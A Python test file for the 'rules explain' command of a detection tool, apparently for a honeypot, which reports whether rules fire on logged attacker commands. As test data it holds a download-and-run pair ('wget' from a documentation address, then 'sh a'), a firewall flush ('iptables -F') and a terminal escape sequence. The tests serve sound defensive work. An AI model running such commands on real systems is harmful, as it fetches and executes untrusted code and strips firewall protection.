"""``rules explain`` on commands and on a stored session."""

from __future__ import annotations

import json
from pathlib import Path

from typer.testing import CliRunner

from decnet_tui.cli.main import app
from tests.integration.test_story_cli import asked, folder

__all__ = ["folder"]
FETCHED = ("wget http://203.0.113.9/a", "sh a")


def test_a_stored_session_is_explained_line_by_line(folder: Path) -> None:
    lines = asked(folder, "rules", "explain", "R9001", "ran", "--rules", str(folder / "rules")).splitlines()
    assert lines[0] == "line 1: does not fire: wget http://203.0.113.9/sshd"
    assert "line 2: fires: iptables -F" in lines
    assert "  tags T1562.004" in lines
    assert [line for line in lines if line.startswith("  + ")] != []


def test_commands_are_explained_without_a_database(tmp_path: Path) -> None:
    result = CliRunner().invoke(
        app, ["rules", "explain", "R0901", *FETCHED, "--json", "--data-dir", str(tmp_path)]
    )
    assert result.exit_code == 0, result.output
    told = json.loads(result.stdout)
    assert [(one["line"], one["fires"]) for one in told["commands"]] == [(1, False), (2, True)]
    assert told["commands"][1]["condition"]["because"] == "fetched by line 1: wget http://203.0.113.9/a"
    assert [path.name for path in tmp_path.rglob("*")] == ["cache", "rules.json"], (
        "only compiled rules are kept"
    )


def test_what_cannot_be_explained_says_why(tmp_path: Path) -> None:
    for rule, why in (("R9", "no rule R9"), ("R0870", "does not look at single commands")):
        result = CliRunner().invoke(app, ["rules", "explain", rule, "id", "--data-dir", str(tmp_path)])
        assert result.exit_code == 1
        assert why in result.output


def test_hostile_text_is_shown_harmless(tmp_path: Path) -> None:
    result = CliRunner().invoke(app, ["rules", "explain", "R0901", "id \x1b[2J", "--data-dir", str(tmp_path)])
    assert result.exit_code == 0
    assert "\x1b" not in result.output
